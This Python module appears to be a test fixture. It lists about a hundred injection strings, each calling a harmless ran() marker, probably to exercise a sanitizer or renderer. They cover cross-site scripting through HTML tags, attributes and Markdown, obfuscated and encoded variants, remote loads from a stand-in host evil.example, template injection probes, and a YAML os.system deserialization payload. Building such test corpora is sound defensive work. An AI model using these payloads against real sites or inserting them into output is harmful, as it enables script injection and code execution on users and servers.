"""A hundred strings that want to run as a program, each calling ``ran()`` in its own way."""

from __future__ import annotations

CALL = "ran(1)"
_TAGS = (
    "<script>ran(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<img src=x onerror=ran(1)>", "<svg onload=ran(1)>",
    "\"><svg onload=ran(1)>", "'><img src=x onerror=ran(1)>", "</title><script>ran(1)</script>", "</textarea><script>ran(1)</script>",
    "</script><script>ran(1)</script>", "</style><script>ran(1)</script>", "--><script>ran(1)</script>", "<!--<script>ran(1)</script>",
    "<!--><img src=x onerror=ran(1)>-->", "]]><script>ran(1)</script>", "<![CDATA[<script>ran(1)</script>]]>", "<?xml version='1.0'?><script>ran(1)</script>",
    "<iframe src=javascript:ran(1)></iframe>", "<iframe srcdoc='<script>parent.ran(1)</script>'>", "<object data=javascript:ran(1)>", "<embed src=javascript:ran(1)>",
    "<body onload=ran(1)>", "<details open ontoggle=ran(1)>x</details>", "<input autofocus onfocus=ran(1)>", "<video><source onerror=ran(1)></video>",
    "<audio src=x onerror=ran(1)>", "<marquee onstart=ran(1)>x</marquee>", "<math><mtext><script>ran(1)</script></mtext></math>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(1)'>", "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=javascript:ran(1)><button>x</button></form>", "<a href=javascript:ran(1)>x</a>", "<div style=\"background:url(https://evil.example/p.png)\">x</div>",
    "<x onclick=ran(1) tabindex=1 autofocus onfocus=ran(1)>", "<img src=https://evil.example/p.png>", "<ScRiPt>ran(1)</sCrIpT>", "<script/x>ran(1)</script>",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s>", "<svg><script>ran(1)</script></svg>", "<template><script>ran(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=ran(1)>\">",
    "<img src=\"x` `<script>ran(1)</script>\"` `>", "<script\n>ran(1)</script\n>", "<<script>ran(1)//<</script>", "<img src=x:x onerror\n=ran(1)>",
)  # fmt: skip
_ATTRIBUTES = (
    "\" onmouseover=\"ran(1)", "' onfocus='ran(1)' autofocus='", "\" autofocus onfocus=ran(1) x=\"", "x onload=ran(1)", "\"/onerror=ran(1)//",
    "` onclick=ran(1) `", "javascript:ran(1)", "JaVaScRiPt:ran(1)", "java\tscript:ran(1)", "java\nscript:ran(1)", " javascript:ran(1)", "\x01javascript:ran(1)",
    "javascript&colon;ran(1)", "&#106;avascript:ran(1)", "&#x6A;avascript:ran(1)", "javascript:ran(1)//https://a.example", "data:text/html,<script>ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=", "vbscript:ran(1)", "//evil.example/x.js", "https:evil.example", "feed:javascript:ran(1)", "view-source:javascript:ran(1)",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:ran(1))", "[x](<javascript:ran(1)>)", "![x](javascript:ran(1))", "![x](https://evil.example/p.png)", "](javascript:ran(1))", "[x]: javascript:ran(1)",
    "[x](data:text/html,<script>ran(1)</script>)", "<javascript:ran(1)>", "[x](https://a.example \"onload=ran(1)\")", "{: onclick=\"ran(1)\" }", "x{: onmouseover=ran(1) }",
    "{ onclick=ran(1) }", "x\n{: onclick=ran(1) }", "# x {: onclick=ran(1) }", "`x`{: onclick=ran(1) }", "| x | <script>ran(1)</script> |", "```html\n<script>ran(1)</script>\n```",
    "~~~\n</code></pre><script>ran(1)</script>\n~~~", "    <script>ran(1)</script>", "\\<script>ran(1)\\</script>", "*[x]: <script>ran(1)</script>",
)  # fmt: skip
_OTHER = (
    "{{7*7}}", "{{ config.__class__ }}", "{% for x in [1] %}<script>ran(1)</script>{% endfor %}", "{{ '<script>ran(1)</script>' | safe }}", "${7*7}", "#{7*7}",
    "&lt;script&gt;ran(1)&lt;/script&gt;", "&#60;script&#62;ran(1)&#60;/script&#62;", "&amp;lt;script&amp;gt;ran(1)", "\u202e)1(nar\u202c<script>ran(1)</script>",
    "\u2028<script>ran(1)</script>", "\ufeff<script>ran(1)</script>", "＜script＞ran(1)＜/script＞", "\x00<script>ran(1)</script>", "<scr\x00ipt>ran(1)</script>",
    "!!python/object/apply:os.system ['ran']", "x\n---\ntitle: <script>ran(1)</script>\n---\n", "x: &a [*a]", "\"}</script><script>ran(1)</script>", "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
    "';ran(1);//", "\";ran(1);//", "%3Cscript%3Eran(1)%3C/script%3E", "+ADw-script+AD4-ran(1)+ADw-/script+AD4-",
)  # fmt: skip
STRINGS = _TAGS + _ATTRIBUTES + _MARKDOWN + _OTHER
